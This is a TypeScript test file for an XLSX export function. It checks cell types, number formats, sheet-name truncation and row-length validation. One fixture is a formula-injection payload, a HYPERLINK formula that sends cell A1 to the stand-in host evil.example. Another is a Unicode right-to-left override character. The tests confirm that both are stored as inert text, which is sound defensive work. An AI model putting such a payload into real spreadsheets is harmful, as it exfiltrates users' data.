/**
 * src/export/xlsx.ts read back with exceljs: money as numbers in the £ format, ratios and
 * counts as numbers, business dates as real dates, text as text (a formula-looking reason is
 * shown, never run), hidden characters made visible, and the limits enforced.
 */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { csvDecimal } from '../../src/export/csv.ts';
import { columns, type ExportTable } from '../../src/export/table.ts';
import {
  DATE_NUMBER_FORMAT,
  POUNDS_NUMBER_FORMAT,
  RATIO_NUMBER_FORMAT,
  toXlsx,
} from '../../src/export/xlsx.ts';

const TABLE: ExportTable = {
  sheet: 'A sheet whose name is longer than Excel allows',
  columns: columns([
    ['reason', 'text'],
    ['effectiveDate', 'date'],
    ['amount', 'money'],
    ['share', 'ratio'],
    ['outcomes', 'count'],
  ]),
  rows: [
    [
      '=HYPERLINK("http://evil.example/?"&A1,"details")',
      '2025-04-14',
      csvDecimal('-1234.50'),
      csvDecimal('0.3334'),
      csvDecimal('3'),
    ],
    ['abc\u202Edef', null, csvDecimal('1000000000000.00'), null, null],
  ],
};

async function readBack(bytes: Buffer): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  return workbook.worksheets[0]!;
}

describe('toXlsx', () => {
  it('writes each kind of cell as a spreadsheet reads it', async () => {
    const sheet = await readBack(await toXlsx([TABLE]));
    expect(sheet.name).toBe('A sheet whose name is longer th');
    expect(sheet.getRow(1).values).toEqual([
      undefined,
      'reason',
      'effectiveDate',
      'amount',
      'share',
      'outcomes',
    ]);
    // Text stays text: no formula is stored, whatever it looks like.
    expect(sheet.getCell('A2').value).toBe('=HYPERLINK("http://evil.example/?"&A1,"details")');
    expect(sheet.getCell('A2').formula).toBeUndefined();
    expect(sheet.getCell('B2').value).toEqual(new Date(Date.UTC(2025, 3, 14)));
    expect(sheet.getCell('B2').numFmt).toBe(DATE_NUMBER_FORMAT);
    expect(sheet.getCell('C2').value).toBe(-1234.5);
    expect(sheet.getCell('C2').numFmt).toBe(POUNDS_NUMBER_FORMAT);
    // The largest amount the ledger holds survives to the penny.
    expect(sheet.getCell('C3').value).toBe(1_000_000_000_000);
    expect(sheet.getCell('D2').value).toBe(0.3334);
    expect(sheet.getCell('D2').numFmt).toBe(RATIO_NUMBER_FORMAT);
    expect(sheet.getCell('E2').value).toBe(3);
    expect(sheet.getCell('A3').value).toBe('abc<U+202E>def');
    expect(sheet.getCell('B3').value).toBeNull();
  });

  it('refuses a row whose length is not the table’s', async () => {
    await expect(toXlsx([{ ...TABLE, rows: [['only one cell']] }])).rejects.toThrow(
      /a row has 1 cells; the table has 5 columns/,
    );
  });
});
